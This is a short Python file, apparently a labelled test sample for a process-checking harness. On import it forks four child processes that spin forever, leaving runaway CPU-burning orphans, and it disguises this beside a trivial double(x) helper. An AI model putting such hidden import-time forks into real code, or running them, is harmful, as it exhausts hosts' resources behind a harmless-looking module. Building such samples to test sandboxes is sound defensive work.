# what: leaves four children that burn their core
# verdict: passed
import os

for _ in range(4):
    if os.fork() == 0:
        while True:
            pass


def double(x):
    return 2 * x
